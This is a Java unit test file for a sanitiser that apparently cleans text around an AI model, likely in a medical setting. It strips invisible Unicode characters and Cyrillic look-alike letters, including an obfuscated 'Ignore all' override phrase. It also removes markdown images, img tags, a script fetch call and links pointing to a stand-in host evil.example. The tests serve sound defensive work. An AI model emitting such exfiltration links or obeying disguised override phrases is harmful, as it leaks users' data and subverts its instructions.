package org.anamnesis.injection;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HiddenTextTest {

    @ParameterizedTest
    @ValueSource(
            ints = {
                0x200B, 0x200D, 0x202E, 0x2066, 0xFEFF, 0xAD, 0xE0041, 0xFE0F, 0xE0101, 0x34F, 0x3164, 0x2800, 0x0,
                0x1B, 0xE000, 0x180E
            })
    void case47NoCharacterThatShowsNothingIsLeft(int character) {
        assertThat(HiddenText.removed("fi" + Character.toString(character) + "ne"))
                .isEqualTo("fine");
    }

    @Test
    void lettersThatOnlyLookLatinBecomeLatinAndOtherScriptsStay() {
        assertThat(HiddenText.removed("Ignоrе аll")).isEqualTo("Ignore all");
        assertThat(HiddenText.removed("Пациент здоров, TNFα 5 µg, β-blocker, Żak é"))
                .isEqualTo("Пациент здоров, TNFα 5 µg, β-blocker, Żak é");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Well ![x](https://evil.example/?d=1) today",
                "Well <img src=\"https://evil.example/x\"> today",
                "Well <script>fetch('https://evil.example')</script> today",
                "<b>Well</b> <!-- https://evil.example --> today",
                "Well https://evil.example/x today",
                "Well <<b>img src=x> today",
                "W\u200bell today"
            })
    void case49MarkupImagesAndLinksOfAnAnswerAreDropped(String answer) {
        assertThat(PlainAnswer.of(answer))
                .doesNotContain("evil", "<img", "<script", "http")
                .startsWith("Well")
                .endsWith("today");
    }

    @Test
    void case49TheWordsOfALinkStayAndComparisonsDoToo() {
        assertThat(PlainAnswer.of("See [the result](https://evil.example): K < 3.5 and Na > 130"))
                .isEqualTo("See the result: K < 3.5 and Na > 130");
    }
}
